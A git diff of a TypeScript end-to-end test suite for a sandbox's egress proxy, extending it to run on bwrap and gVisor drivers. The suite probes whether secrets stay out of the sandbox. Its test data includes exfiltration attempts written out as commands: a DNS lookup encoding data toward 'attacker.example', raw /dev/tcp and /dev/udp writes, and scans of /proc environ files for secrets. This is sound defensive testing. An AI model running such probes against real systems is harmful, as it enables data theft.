@@ -6,8 +6,11 @@ import type { AddressInfo } from 'node:net';
 import { networkInterfaces, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type Anthropic from '@anthropic-ai/sdk';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it, type TestContext } from 'vitest';
 import { createCertificateAuthority } from '../src/egress/certificates.js';
+import { createBwrapDriver } from '../src/sandbox/bwrap/bwrap-driver.js';
+import type { SandboxDriver } from '../src/sandbox/driver.js';
+import { createGvisorDriver, type GvisorDriver } from '../src/sandbox/gvisor/gvisor-driver.js';
 import { startTestBerth, type TestBerth, UNLIMITED_LIMITS } from './support/berth-instance.js';
 import { sendAndWaitIdle } from './support/session-stream.js';
 
@@ -50,11 +53,22 @@ function hostAddress(): string | undefined {
   return undefined;
 }
 
+/** The drivers this suite runs on, each with a factory to ask whether this host can run it. */
+const DRIVERS: Record<string, () => SandboxDriver> = {
+  bwrap: () => createBwrapDriver(),
+  gvisor: () => createGvisorDriver(),
+};
+
 /**
- * Issue 4 end to end: a vault credential reaches an allowed upstream only through the egress
+ * Issue 4 end to end, on every driver (issue 14 item 24: the stronger isolations keep the same
+ * single way out): a vault credential reaches an allowed upstream only through the egress
  * proxy, as a placeholder inside the sandbox; nothing else leaves the sandbox.
  */
-describe('egress: credentials never enter the sandbox', () => {
+describe.each(Object.keys(DRIVERS))('egress on %s: credentials never enter the sandbox', (driverName) => {
+  let unavailable: string | undefined;
+  const requireDriver = (context: TestContext) => {
+    if (unavailable !== undefined) context.skip(`${driverName} is unavailable here: ${unavailable}`);
+  };
   let berth: TestBerth;
   let directory: string;
   let secure: Upstream;
@@ -63,6 +77,13 @@ describe('egress: credentials never enter the sandbox', () => {
   let placeholder: string;
 
   beforeAll(async () => {
+    const probe = DRIVERS[driverName]!();
+    const availability = await probe.checkAvailability();
+    await (probe as Partial<GvisorDriver>).destroyAll?.();
+    if (!availability.ok) {
+      unavailable = availability.reason;
+      return;
+    }
     process.env.BERTH_TEST_SERVER_CANARY = SERVER_CANARY;
     directory = await mkdtemp(join(tmpdir(), 'berth-egress-e2e-'));
     const upstreamCa = await createCertificateAuthority('e2e upstream');
@@ -78,6 +99,9 @@ describe('egress: credentials never enter the sandbox', () => {
     berth = await startTestBerth({
       environment: {
         ...UNLIMITED_LIMITS,
+        // The only driver, so every environment's default.
+        BERTH_SANDBOX_DRIVERS: driverName,
+        BERTH_SANDBOX_WARM_POOL: '0',
         BERTH_EGRESS_HOSTS: 'api.test=127.0.0.1,other.test=127.0.0.1,control.test=127.0.0.1',
         BERTH_EGRESS_ALLOW_PRIVATE: `127.0.0.1:${secure.port},127.0.0.1:${plain.port}`,
         BERTH_EGRESS_CA_FILE: join(directory, 'upstream-ca.pem'),
@@ -116,7 +140,7 @@ describe('egress: credentials never enter the sandbox', () => {
     });
     sessionId = session.id;
     placeholder = (await run(client, sessionId, 'printf %s "$API_TOKEN"')).trim();
-  }, 60_000);
+  }, 120_000);
 
   afterAll(async () => {
     delete process.env.BERTH_TEST_SERVER_CANARY;
@@ -126,23 +150,28 @@ describe('egress: credentials never enter the sandbox', () => {
     await rm(directory, { recursive: true, force: true });
   });
 
-  it('shows the sandbox a placeholder, and no canary anywhere inside', async () => {
+  it('shows the sandbox a placeholder, and no canary anywhere inside', async (context) => {
+    requireDriver(context);
     expect(placeholder).toMatch(/^berth_placeholder_[0-9a-f]+$/);
+    // The control is found where it was put, so the search itself works on this driver.
+    const control = `control-${process.pid}`;
     const search = await run(
       berth.client,
       sessionId,
       [
-        `for needle in ${SECRET} ${SERVER_CANARY}; do`,
+        `echo ${control}-found > /tmp/control.txt;`,
+        `for needle in ${SECRET} ${SERVER_CANARY} ${control}-found; do`,
         '  env | grep -c "$needle";',
         '  cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c "$needle";',
         '  grep -rl "$needle" /workspace /tmp /home /run /etc 2>/dev/null | wc -l;',
         'done',
       ].join(' '),
     );
-    expect(search.trim().split(/\s+/)).toEqual(['0', '0', '0', '0', '0', '0']);
+    expect(search.trim().split(/\s+/)).toEqual(['0', '0', '0', '0', '0', '0', '0', '0', '1']);
   });
 
-  it('sends the real secret to the allowed host only, and the sandbox sees the placeholder back', async () => {
+  it('sends the real secret to the allowed host only, and the sandbox sees the placeholder back', async (context) => {
+    requireDriver(context);
     const output = await run(
       berth.client,
       sessionId,
@@ -173,7 +202,8 @@ describe('egress: credentials never enter the sandbox', () => {
     expect(JSON.stringify(produced)).not.toContain(SECRET);
   });
 
-  it('lets nothing else out: other hosts, addresses, raw sockets, DNS, the control plane', async () => {
+  it('lets nothing else out: other hosts, addresses, raw sockets, DNS, the control plane', async (context) => {
+    requireDriver(context);
     const before = secure.seen.length + plain.seen.length;
     const address = hostAddress();
     const berthPort = new URL(berth.url).port;
@@ -194,7 +224,8 @@ describe('egress: credentials never enter the sandbox', () => {
       `echo hi > /dev/tcp/127.0.0.1/${berthPort}`,
       'echo hi > /dev/udp/8.8.8.8/53',
       'getent hosts exfil-c2VjcmV0.attacker.example || echo no-dns',
-      'ls /run/berth',
+      // (A glob, not `ls PATH`: gVisor's statx quirk, docs/drivers/gvisor.md.)
+      'cd /run/berth && echo *',
     ];
     // One line per attempt, whatever it printed on stdout and stderr.
     const output = await run(
@@ -207,9 +238,9 @@ describe('egress: credentials never enter the sandbox', () => {
     for (const [index, attempt] of attempts.entries()) {
       const line = lines[index] ?? '';
       if (attempt.startsWith('getent')) expect(line, attempt).toContain('no-dns');
-      else if (attempt.startsWith('ls'))
+      else if (attempt.startsWith('cd'))
         expect(line.trim().split(/\s+/).sort()).toEqual(['ca-bundle.pem', 'egress-ca.pem', 'egress.sock']);
-      else if (attempt.startsWith('echo hi')) expect(line, attempt).toMatch(/refused|unreachable/i);
+      else if (attempt.startsWith('echo hi')) expect(line, attempt).toMatch(/refused|unreachable|no route/i);
       else expect(line, attempt).toMatch(refused);
     }
     expect(secure.seen.length + plain.seen.length).toBe(before);
@@ -220,7 +251,8 @@ describe('egress: credentials never enter the sandbox', () => {
     await expect.poll(denied).toBeGreaterThanOrEqual(5);
   }, 60_000);
 
-  it('keeps the vault file and the server environment out of reach', () => {
+  it('keeps the vault file and the server environment out of reach', (context) => {
+    requireDriver(context);
     // The server's own environment had the canary the whole time (checked from inside above).
     expect(process.env.BERTH_TEST_SERVER_CANARY).toBe(SERVER_CANARY);
     expect(readFileSync(join(berth.dataDir, 'vault.key'), 'utf8')).not.toContain(SECRET);
